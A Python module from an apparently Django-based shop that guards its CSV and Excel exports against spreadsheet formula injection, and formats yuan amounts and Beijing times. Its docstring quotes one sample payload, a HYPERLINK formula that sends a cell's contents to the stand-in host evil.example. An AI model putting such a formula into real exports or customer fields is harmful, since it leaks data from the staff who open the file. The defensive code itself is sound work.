"""Cells of the files the shop hands out to be opened in a spreadsheet (CSV and Excel exports).

A spreadsheet program (Excel, WPS, LibreOffice) runs a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula, and a leading tab or carriage return lets one follow: a customer
who names themselves ``=HYPERLINK("http://evil.example/?x="&A1,"点我")`` would otherwise get a
live link (or a DDE command) into the finance clerk's sheet. OWASP's rule for CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection) is to put a single quote in front of
such a cell, so that it is read as text. :func:`safe_text` is that rule, for every export
(CSV and Excel alike). Only text is touched: amounts written as numbers (``Decimal`` yuan,
negative for a refund-heavy day) stay numbers that a column sum adds.

(``defusedcsv`` does this for CSV writers only and also rewrites ``|`` inside cells; the
Excel files need the same rule, so the one function here serves both.)
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from zoneinfo import ZoneInfo

from django.utils import timezone

SHANGHAI = ZoneInfo("Asia/Shanghai")  # Beijing time, whatever TIME_ZONE says

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value):
    """``value`` for a spreadsheet cell: a ``str`` that starts with one of
    :data:`FORMULA_STARTS` gets a ``'`` in front (``"=1+1"`` -> ``"'=1+1"``); anything else
    (other text, numbers, dates, ``None``) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row) -> list:
    """:func:`csv_cell` applied to each cell of ``row`` (an iterable): neutralised text, empty
    for nothing, Beijing times."""
    return [csv_cell(value) for value in row]


#: Excel number formats: yuan (``Decimal``), Beijing times and dates
YUAN_FORMAT = "0.00"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
DATE_FORMAT = "yyyy-mm-dd"


def beijing_naive(value: dt.datetime) -> dt.datetime:
    """An aware datetime as Beijing (Asia/Shanghai) wall time without a zone, as an Excel cell
    holds it (Excel has no time zones; openpyxl refuses aware values). A naive one is returned as it is."""
    if timezone.is_aware(value):
        return timezone.localtime(value, SHANGHAI).replace(tzinfo=None)
    return value


def csv_cell(value) -> str:
    """``value`` as CSV text: ``None`` and ``""`` empty (never "-"), a datetime as Beijing
    "2026-12-01 20:00", a date as "2026-12-01", a ``Decimal`` (yuan) as "12.34", text through
    :func:`safe_text`."""
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        return beijing_naive(value).strftime("%Y-%m-%d %H:%M")
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, str):
        return safe_text(value)
    return str(value)


def excel_cell(sheet, value):
    """``value`` as a cell of the write-only openpyxl ``sheet``, typed:

    - text goes through :func:`safe_text` and is stored as a string (``data_type`` ``"s"``: never
      a formula, whatever it starts with), without the control characters an XLSX file cannot
      hold (openpyxl would raise ``IllegalCharacterError`` for a nickname with one);
    - ``None`` and ``""`` are empty cells;
    - a ``Decimal`` (yuan) is a number shown ``0.00``; an ``int`` (counts, ids, fen) a number;
    - a datetime is a real Excel date-time in Beijing time (``yyyy-mm-dd hh:mm``), a date an
      Excel date (``yyyy-mm-dd``).
    """
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if value is None or value == "":
        return None
    if isinstance(value, str):
        cell = WriteOnlyCell(sheet, value=safe_text(ILLEGAL_CHARACTERS_RE.sub("", value)))
        cell.data_type = "s"
        return cell
    if isinstance(value, Decimal):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = YUAN_FORMAT
        return cell
    if isinstance(value, dt.datetime):
        cell = WriteOnlyCell(sheet, value=beijing_naive(value))
        cell.number_format = DATETIME_FORMAT
        return cell
    if isinstance(value, dt.date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = DATE_FORMAT
        return cell
    return value
